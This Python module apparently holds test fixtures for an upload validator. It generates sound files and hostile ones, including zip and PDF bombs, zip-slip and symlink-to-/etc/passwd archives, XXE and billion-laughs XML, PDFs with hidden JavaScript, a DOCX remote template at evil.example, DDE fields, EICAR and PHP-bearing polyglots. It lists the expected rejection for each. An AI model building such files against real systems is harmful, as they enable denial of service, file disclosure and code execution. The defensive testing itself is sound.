"""A corpus of files, sound and hostile, each made when it is asked for.

`CASES` names what becomes of each: taken in (200), or refused with a status and a word of the message.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

from PIL import Image

MB = 1024 * 1024
TAKEN = 200


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    make: Callable[[], bytes]
    status: int = TAKEN
    says: str = ""

    @cached_property
    def content(self) -> bytes:
        return self.make()


# --- pdf --------------------------------------------------------------------------------------------------


def pdf(objects: bytes = b"", *, trailer: bytes = b"", tail: bytes = b"", head: bytes = b"") -> bytes:
    """A small sound PDF with further objects where asked for."""
    body = b"%PDF-1.7\n" + head + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    body += b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n" + objects
    at = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 3" + trailer + b">>\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % at + tail


def pdf_of_size(size: int) -> bytes:
    """Padded to the byte: the longer the file, the longer the number that says where its end begins."""
    padding = size - len(pdf(b"% \n"))
    over = len(pdf(b"% " + b"x" * padding + b"\n")) - size
    return pdf(b"% " + b"x" * (padding - over) + b"\n")


def pdf_with_packed_script() -> bytes:
    packed = zlib.compress(b"3 0 <</S/JavaScript/JS(app.alert(1))>>")
    head = b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return pdf(head + packed + b"\nendstream\nendobj\n")


def pdf_bomb() -> bytes:
    packed = zlib.compress(b"\0" * (60 * MB), 9)
    head = b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return pdf(head + packed + b"\nendstream\nendobj\n")


def pdf_of_streams_within_streams() -> bytes:
    """Each one holds all the others: read one after the other, they take many times the file."""
    nested = random.Random(7).randbytes(100_000)
    for _ in range(8):
        nested = b"4 0 obj\n<</Type/ObjStm>>\nstream\n" + zlib.compress(nested, 0)
    return pdf(nested + b"\nendstream\nendobj\n")


# --- images -----------------------------------------------------------------------------------------------


def image(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def png(width: int, height: int, pixels: bytes, *, extra: bytes = b"") -> bytes:
    """A greyscale PNG that claims a size, whatever its pixels are."""
    header = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + extra
        + _chunk(b"IDAT", zlib.compress(pixels))
        + _chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    sound = image("JPEG")
    at = sound.index(b"\xff\xc0")
    return sound[: at + 5] + struct.pack(">HH", height, width) + sound[at + 9 :]


def jpeg_of_many_scans() -> bytes:
    """A few bytes more make a decoder go over all pixels once more."""
    out = io.BytesIO()
    Image.linear_gradient("L").save(out, "JPEG", progressive=True)
    sound = out.getvalue()
    return sound[:-2] + sound[sound.rindex(b"\xff\xda") : -2] * 120 + sound[-2:]


# --- zip --------------------------------------------------------------------------------------------------


def package(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def symlink() -> bytes:
    info = zipfile.ZipInfo("link")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return package((info, b"/etc/passwd"))


def encrypted() -> bytes:
    content = bytearray(package(("a.txt", b"secret")))
    content[6] |= 1
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    content = package(("a.txt", b"x" * 4000))
    at, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry = content[at:end]
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, 2 * len(entry), at, 0)
    return content[:at] + entry + entry.replace(b"a.txt", b"b.txt") + tail


def lying_about_size() -> bytes:
    """The directory promises ten bytes, the entry unpacks to twenty megabytes."""
    content = bytearray(package(("a.bin", b"\0" * (20 * MB))))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.index(mark)
        content[at + offset : at + offset + 4] = struct.pack("<L", 10)
    return bytes(content)


def with_wrong_checksum() -> bytes:
    content = bytearray(package(("a.txt", b"x")))
    for mark, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        content[content.index(mark) + offset] ^= 1
    return bytes(content)


def raw_name(name: str) -> zipfile.ZipInfo:
    """An entry with a name as it stands, which `writestr` would tidy."""
    info = zipfile.ZipInfo("x")
    info.filename = name
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


# --- office -----------------------------------------------------------------------------------------------

TYPES = (
    '<?xml version="1.0"?><Types xmlns="x">'
    '<Override PartName="/%s" ContentType="application/vnd.%s"/></Types>'
)
WORD = "openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_SHEET = "ms-excel.sheet.macroEnabled.main+xml"
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p/></w:body></w:document>'
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'


def docx(*parts: tuple[str, bytes], document: bytes = DOCUMENT, types: str = WORD) -> bytes:
    named = (TYPES % ("word/document.xml", types)).encode()
    return package(("[Content_Types].xml", named), ("word/document.xml", document), *parts)


def xlsx(*parts: tuple[str, bytes], types: str = SHEET) -> bytes:
    named = (TYPES % ("xl/workbook.xml", types)).encode()
    return package(
        ("[Content_Types].xml", named), ("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'), *parts
    )


def office_bombs() -> bytes:
    """Each of them is small enough, and all of them together are not."""
    text = b"<s>" + b" " * (10 * MB) + b"</s>"
    one = docx(("word/styles.xml", text), ("word/media/a.bin", random.Random(7).randbytes(MB // 8)))
    return package(*((f"{n}.docx", one) for n in range(6)))


def relationship(kind: str) -> bytes:
    text = (
        '<?xml version="1.0"?><Relationships><Relationship Id="r1" TargetMode="External"'
        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        ' Target="http://evil.example/x.dotm"/></Relationships>'
    )
    return text.encode()


def real_xlsx() -> bytes:
    """As a spreadsheet program writes it."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["名称", "数量"])
    sheet.append(["旋锻主轴管", 12000])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

CASES = [
    # what people send
    Case("pdf", "检测报告.pdf", pdf),
    Case("pdf in capitals", "REPORT.PDF", pdf),
    Case("png", "外观.png", lambda: image("PNG")),
    Case("jpg", "现场.jpg", lambda: image("JPEG")),
    Case("jpeg", "现场.jpeg", lambda: image("JPEG", (1600, 1200))),
    Case("docx", "技术协议.docx", docx),
    Case(
        "docx with hyperlink",
        "链接.docx",
        lambda: docx(("word/_rels/document.xml.rels", relationship("hyperlink"))),
    ),
    Case("xlsx", "参数表.xlsx", xlsx),
    Case("real xlsx", "采购清单.xlsx", real_xlsx),
    Case("zip", "图纸.zip", lambda: package(("图纸/a.dwg", b"AC1032" * 100), ("说明.txt", "说明".encode()))),
    Case("zip of office", "资料.zip", lambda: package(("a.docx", docx()), ("b.xlsx", xlsx()))),
    Case("double extension", "报价.exe.pdf", pdf),
    Case("exactly at the limit", "上限.pdf", lambda: pdf_of_size(20 * MB)),
    # names
    Case("long name", "长" * 5000 + ".pdf", pdf),
    Case("path", "../../../etc/passwd.pdf", pdf),
    Case("windows path", "C:\\Windows\\x.pdf", pdf),
    Case("bidi name", "报价\u202efdp.exe.pdf", pdf),
    Case("reserved name", "CON.pdf", pdf),
    Case("name of controls", "\u202e\u200b", pdf, 422, "名称"),
    Case("name that is an extension", ".pdf", pdf, 415, "不支持"),
    # size
    Case("empty", "空.pdf", lambda: b"", 422, "空"),
    Case("one byte", "一.pdf", lambda: b"x", 415, "pdf"),
    Case("one byte over the limit", "超.pdf", lambda: pdf_of_size(20 * MB + 1), 413, "20 MB"),
    # kinds
    Case("executable", "安装.exe", lambda: b"MZ" + b"\0" * 600, 415, "不支持"),
    Case("no extension", "README", pdf, 415, "不支持"),
    Case("hidden executable", "报价.pdf.exe", pdf, 415, "不支持"),
    Case("html", "页.html", lambda: HTML, 415, "不支持"),
    Case("svg", "图.svg", lambda: SVG, 415, "不支持"),
    Case(
        "mhtml",
        "存.mhtml",
        lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
        415,
        "不支持",
    ),
    Case("eicar", "eicar.com", lambda: b"".join(EICAR), 415, "不支持"),
    Case("html as png", "图.png", lambda: HTML, 415, "扩展名"),
    Case("svg as png", "图.png", lambda: SVG, 415, "扩展名"),
    Case("executable as pdf", "报告.pdf", lambda: b"MZ" + b"\0" * 600, 415, "扩展名"),
    Case("gif as jpg", "动.jpg", lambda: image("GIF"), 415, "gif"),
    Case("png as jpg", "图.jpg", lambda: image("PNG"), 415, "png"),
    Case("zip as docx", "假.docx", lambda: package(("a.txt", b"x")), 415, "Office"),
    Case("xlsx as docx", "表.docx", xlsx, 415, "Office"),
    # pdf
    Case("truncated pdf", "断.pdf", lambda: pdf()[:-20], 422, "损坏"),
    Case(
        "pdf with broken xref", "坏.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), 422, "损坏"
    ),
    Case(
        "pdf with script", "脚本.pdf", lambda: pdf(b"3 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n"), 422, "脚本"
    ),
    Case(
        "pdf with spelled script",
        "脚本.pdf",
        lambda: pdf(b"3 0 obj\n<</S/J#61vaScr#69pt/JS(x)>>\nendobj\n"),
        422,
        "脚本",
    ),
    Case("pdf with packed script", "脚本.pdf", pdf_with_packed_script, 422, "脚本"),
    Case("pdf that launches", "启动.pdf", lambda: pdf(b"3 0 obj\n<</S/Launch/F(x)>>\nendobj\n"), 422, "脚本"),
    Case(
        "pdf with a file in it",
        "嵌.pdf",
        lambda: pdf(b"3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"),
        422,
        "嵌入",
    ),
    Case("encrypted pdf", "密.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), 422, "加密"),
    Case("pdf and zip", "双.pdf", lambda: pdf(tail=package(("a.txt", b"x"))), 422, ""),
    Case("pdf and html", "双.pdf", lambda: pdf(head=b"%<html><script>x</script>\n"), 422, "网页"),
    Case("pdf bomb", "炸.pdf", pdf_bomb, 413, "50 MB"),
    Case("pdf of streams within streams", "套.pdf", pdf_of_streams_within_streams, 413, "50 MB"),
    Case("pdf of many streams", "多.pdf", lambda: pdf(b"/ObjStm>>\nstream\n" * 5001), 413, "50 MB"),
    # images
    Case("png flood", "洪.png", lambda: png(30000, 30000, b""), 413, "30000"),
    Case("jpg flood", "洪.jpg", lambda: jpeg_claiming(30000, 30000), 413, "30000"),
    Case("png bomb", "炸.png", lambda: png(10, 10, b"\0" * (30 * MB)), 422, "损坏"),
    Case("truncated png", "断.png", lambda: image("PNG")[:-30], 422, "损坏"),
    Case("png with too few pixels", "少.png", lambda: png(400, 400, b"\0" * 100), 422, "损坏"),
    Case("png of no width", "零.png", lambda: png(0, 10, b""), 422, "损坏"),
    Case(
        "png with wrong checksum",
        "错.png",
        lambda: image("PNG").replace(b"IHDR\0\0", b"IHDR\0\1"),
        422,
        "损坏",
    ),
    Case("truncated jpg", "断.jpg", lambda: image("JPEG", (800, 600))[:2000], 422, "损坏"),
    Case(
        "png and html",
        "双.png",
        lambda: png(1, 1, b"\0\0", extra=_chunk(b"tEXt", b"c\0" + HTML)),
        422,
        "夹带",
    ),
    Case("png and zip", "双.png", lambda: image("PNG") + package(("a.txt", b"x")), 422, "损坏"),
    Case("jpg of many scans", "遍.jpg", jpeg_of_many_scans, 422, "100 遍"),
    Case("jpg and zip", "双.jpg", lambda: image("JPEG") + package(("a.txt", b"x")), 422, "夹带"),
    Case("jpg and php", "双.jpg", lambda: image("JPEG") + b"<?php echo 1; ?>", 422, "夹带"),
    # zip
    Case("empty zip", "空.zip", package, 422, "没有文件"),
    Case("zip bomb", "炸.zip", lambda: package(("a.bin", b"\0" * (40 * MB))), 422, "100 倍"),
    Case("zip too large unpacked", "大.zip", lambda: package(("a.bin", b"\0" * (51 * MB))), 413, "50 MB"),
    Case("zip lying about sizes", "谎.zip", lying_about_size, 422, "损坏"),
    Case("zip of many", "多.zip", lambda: package(*((f"{n}.txt", b"x") for n in range(101))), 422, "101"),
    Case(
        "zip of ten thousand",
        "多.zip",
        lambda: package(*((f"{n}.txt", b"") for n in range(10_000))),
        422,
        "10000",
    ),
    Case("zip in zip", "套.zip", lambda: package(("b.zip", package(("a.txt", b"x")))), 422, "一层"),
    Case(
        "zip in zip by another name",
        "套.zip",
        lambda: package(("b.dat", package(("a.txt", b"x")))),
        422,
        "一层",
    ),
    Case("rar in zip", "套.zip", lambda: package(("b.rar", b"Rar!\x1a\x07\0")), 422, "一层"),
    Case("zip with symlink", "链.zip", symlink, 422, "链接"),
    Case("zip slip", "滑.zip", lambda: package((raw_name("../../x.txt"), b"x")), 422, "路径"),
    Case("zip with absolute path", "绝.zip", lambda: package((raw_name("/etc/x"), b"x")), 422, "路径"),
    Case("zip with drive", "盘.zip", lambda: package((raw_name("C:x.txt"), b"x")), 422, "路径"),
    Case("encrypted zip", "密.zip", encrypted, 422, "加密"),
    Case("overlapping zip", "叠.zip", overlapping, 422, "损坏"),
    Case("zip with twice the name", "重.zip", lambda: package(("a.txt", b"x"), ("A.txt", b"y")), 422, "重名"),
    Case("zip with a program", "程.zip", lambda: package(("setup.exe", b"MZ")), 422, "可执行"),
    Case("zip with a hidden program", "程.zip", lambda: package(("a.txt", b"MZ\x90\0")), 422, "可执行"),
    Case("zip with a page", "页.zip", lambda: package(("a.html", HTML)), 422, "网页"),
    Case("zip with eicar", "毒.zip", lambda: package(("eicar.com", b"".join(EICAR))), 422, "可执行"),
    Case("truncated zip", "断.zip", lambda: package(("a.txt", b"x" * 5000))[:-30], 422, "损坏"),
    Case("zip with wrong checksum", "错.zip", with_wrong_checksum, 422, "损坏"),
    Case(
        "zip with something before it",
        "前.zip",
        lambda: b"PK\x03\x04junk" + package(("a.txt", b"x")),
        422,
        "损坏",
    ),
    Case("zip of office bombs", "炸.zip", office_bombs, 413, "50 MB"),
    # office
    Case("docx with xxe", "实体.docx", lambda: docx(document=XXE), 422, "DTD"),
    Case("docx with xxe elsewhere", "实体.docx", lambda: docx(("word/styles.xml", XXE)), 422, "DTD"),
    Case(
        "docx with xxe in utf-16",
        "实体.docx",
        lambda: docx(("word/styles.xml", XXE.decode().encode("utf-16"))),
        422,
        "DTD",
    ),
    Case("docx with laughs", "笑.docx", lambda: docx(("customXml/item1.xml", LAUGHS)), 422, "DTD"),
    Case("docx with macros", "宏.docx", lambda: docx(("word/vbaProject.bin", b"x")), 422, "宏"),
    Case("docx with object", "嵌.docx", lambda: docx(("word/embeddings/oleObject1.bin", b"x")), 422, "嵌入"),
    Case(
        "docx with remote template",
        "模.docx",
        lambda: docx(("word/_rels/settings.xml.rels", relationship("attachedTemplate"))),
        422,
        "外部",
    ),
    Case(
        "docx with dde",
        "动.docx",
        lambda: docx(document=DOCUMENT.replace(b"<w:p/>", b"<w:p>DDEAUTO c:\\x</w:p>")),
        422,
        "DDE",
    ),
    Case(
        "docx of deep xml",
        "深.docx",
        lambda: docx(("customXml/item1.xml", b"<a>" * 501 + b"</a>" * 501)),
        422,
        "500 层",
    ),
    Case("docx with broken xml", "坏.docx", lambda: docx(document=b"<w:document>"), 422, "XML"),
    Case("docx without types", "缺.docx", lambda: package(("word/document.xml", DOCUMENT)), 415, "Office"),
    Case("xlsx with xxe", "实体.xlsx", lambda: xlsx(("xl/sharedStrings.xml", XXE)), 422, "DTD"),
    Case("xlsx with macros by type", "宏.xlsx", lambda: xlsx(types=MACRO_SHEET), 415, "Office"),
    Case("xlsx with macro sheet", "宏.xlsx", lambda: xlsx(("xl/macrosheets/sheet1.xml", b"<x/>")), 422, "宏"),
    Case(
        "xlsx with external link",
        "链.xlsx",
        lambda: xlsx(("xl/externalLinks/externalLink1.xml", b"<x/>")),
        422,
        "外部",
    ),
    Case(
        "xlsx string bomb",
        "炸.xlsx",
        lambda: xlsx(("xl/sharedStrings.xml", b"<s>" + b" " * (51 * MB) + b"</s>")),
        413,
        "50 MB",
    ),
]
